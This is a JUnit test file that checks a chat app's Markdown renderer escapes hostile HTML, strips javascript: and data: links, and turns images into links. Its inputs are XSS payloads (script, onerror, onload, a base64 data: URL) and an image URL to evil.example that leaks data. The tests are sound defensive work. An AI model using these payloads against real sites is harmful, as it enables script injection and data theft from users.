package dev.streamchat.web;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** The stored answer's rendering keeps hostile Markdown and HTML inert. */
class MarkdownTest {

  private static final Set<String> SAFE_TAGS = Set.of("p", "a", "em", "strong", "code", "pre", "ul", "ol", "li",
      "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "hr", "br");
  private static final Pattern TAG = Pattern.compile("<(/?)([a-zA-Z0-9]+)([^>]*)>");
  private static final Pattern ATTR = Pattern.compile("\\s([a-zA-Z-]+)=\"([^\"]*)\"");

  /** Every real tag of the output (text is escaped, so every '<' is one) is harmless. */
  private static void assertInert(String markdown) {
    String html = Markdown.toHtml(markdown);
    Matcher tag = TAG.matcher(html);
    while (tag.find()) {
      String name = tag.group(2).toLowerCase(Locale.ROOT);
      assertTrue(SAFE_TAGS.contains(name), "<" + name + "> in " + html);
      Matcher attr = ATTR.matcher(tag.group(3));
      while (attr.find()) {
        String key = attr.group(1).toLowerCase(Locale.ROOT);
        assertTrue(Set.of("href", "rel", "target", "class", "start").contains(key), key + " in " + html);
        if (key.equals("href")) {
          String href = attr.group(2).toLowerCase(Locale.ROOT).strip();
          assertTrue(href.isEmpty() || href.startsWith("http://") || href.startsWith("https://")
              || href.startsWith("mailto:"), href + " in " + html);
        }
      }
    }
    assertFalse(html.replaceAll("<[^>]*>", "").contains("<"), "stray '<' in " + html);
  }

  @Test
  void rawHtmlIsEscaped() {
    assertInert("<script>alert(1)</script>");
    assertInert("<img src=x onerror=alert(2)>");
    assertInert("<svg onload=alert(4)>");
    assertInert("<div hx-get=\"/x\" hx-trigger=\"load\">x</div>");
    assertInert("<iframe src=\"http://evil.example\"></iframe>");
    assertTrue(Markdown.toHtml("<script>alert(1)</script>").contains("&lt;script&gt;"));
  }

  @Test
  void scriptLinksLoseTheirTarget() {
    assertInert("[click](javascript:alert(3))");
    assertInert("[click](JaVaScRiPt:alert(3))");
    assertInert("<javascript:alert(3)>");
    assertInert("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)");
    assertTrue(Markdown.toHtml("[ok](https://example.com)").contains("href=\"https://example.com\""));
  }

  @Test
  void imagesBecomeLinksSoNothingIsFetched() {
    String html = Markdown.toHtml("![secret](http://evil.example/leak?q=data)");
    assertFalse(html.contains("<img"), html);
    assertTrue(html.contains("<a href=\"http://evil.example/leak?q=data\""), html);
    assertTrue(html.contains(">secret</a>"), html);
    assertInert("![x](javascript:alert(1))");
  }
}
